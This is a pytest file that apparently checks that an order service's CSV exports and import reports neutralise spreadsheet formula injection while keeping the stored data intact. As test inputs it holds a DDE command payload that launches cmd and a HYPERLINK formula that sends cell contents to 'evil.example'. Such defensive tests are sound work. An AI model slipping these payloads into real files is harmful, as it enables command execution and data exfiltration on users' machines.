"""The record export and the import report quote what a spreadsheet would run; data is kept."""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import pytest

from services.config import Settings
from services.csvout import TRIGGERS
from tests.api.test_import import line, to_csv
from tests.e2e.procs import base_env, run
from tests.harness import ApiHarness, booking

pytestmark = pytest.mark.usefixtures("screening_list")

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cells(text: str) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: rows of cells."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts like a formula unless it is a plain number."""
    for row in rows:
        for cell in row:
            if cell.lstrip(" ")[:1] in TRIGGERS:
                assert PLAIN_NUMBER.fullmatch(cell), f"formula-like cell {cell!r} in {row}"


async def test_the_record_csv_quotes_party_names_that_are_formulas(api: ApiHarness) -> None:
    body = booking(end_user=LINK)
    body["purchaser"]["name"] = CALC
    body["end_use"] = "@SUM(1+1)"
    oid = await api.book(body)
    # Stored and shown exactly as booked: the quote belongs to the CSV cell only.
    order = await api.get(oid)
    assert (order["purchaser"]["name"], order["end_user"]["name"]) == (CALC, LINK)
    r = await api.http.get(
        f"/api/v1/orders/{oid}/record", params={"format": "csv"}, headers=api.auth("vic")
    )
    assert r.status_code == 200
    rows = cells(r.text)
    assert_no_formula(rows)
    by_field = {row[0]: row[1] for row in rows}
    assert by_field["order.purchaser.name"] == "'" + CALC
    assert by_field["order.end_user.name"] == "'" + LINK
    assert by_field["order.end_use"] == "'@SUM(1+1)"
    assert by_field["order.lines[0].quantity"] == "10"


async def test_the_import_keeps_formula_text_as_data_and_its_csv_report_quotes_it(
    api: ApiHarness,
) -> None:
    ref = f'=HYPERLINK("http://evil.example/{uuid.uuid4().hex[:8]}")'
    bad_ref = f"-1+{uuid.uuid4().hex[:8]}"
    rows = [
        line(ref, purchaser_name=CALC, end_user_name=LINK, end_use="+1+1"),
        line(bad_ref, sku="@SUM(A1)"),
    ]
    r = await api.http.post(
        "/api/v1/orders/import",
        params={"atomic": "false", "report": "csv"},
        files={"file": ("orders.csv", to_csv(rows), "text/csv")},
        headers=api.auth("alice"),
        timeout=120,
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    report = cells(r.text)
    assert_no_formula(report)
    header, *lines = report
    assert header == ["kind", "rows", "external_ref", "status", "order_id", "field", "message"]
    by_ref = {row[2]: dict(zip(header, row, strict=True)) for row in lines if row[0] == "order"}
    booked = by_ref["'" + ref]
    assert booked["status"] == "booked"
    assert by_ref["'" + bad_ref]["status"] == "invalid"
    errors = [dict(zip(header, row, strict=True)) for row in lines if row[0] == "error"]
    assert [(e["rows"], e["field"]) for e in errors] == [("3", "sku")]
    order = await api.get(booked["order_id"])
    assert order["external_ref"] == ref
    assert (order["purchaser"]["name"], order["end_user"]["name"]) == (CALC, LINK)
    assert order["end_use"] == "+1+1"


async def test_the_cli_writes_its_report_as_a_safe_csv(
    api: ApiHarness, settings: Settings, tmp_path: Path
) -> None:
    ref = f"@{uuid.uuid4().hex[:8]}"
    source, report = tmp_path / "book.csv", tmp_path / "report.csv"
    source.write_bytes(to_csv([line(ref, purchaser_name=CALC)]))
    env = base_env(
        database_url=settings.database_url,
        temporal_address=settings.temporal_address,
        task_queue=settings.task_queue,
    )
    run(["orders", "import", str(source), "--user", "alice", "--report", str(report)], env)
    rows = cells(report.read_text(encoding="utf-8"))
    assert_no_formula(rows)
    (order_line,) = [row for row in rows if row[0] == "order"]
    assert order_line[2:4] == ["'" + ref, "booked"]
    order = await api.get(order_line[4])
    assert (order["external_ref"], order["purchaser"]["name"]) == (ref, CALC)
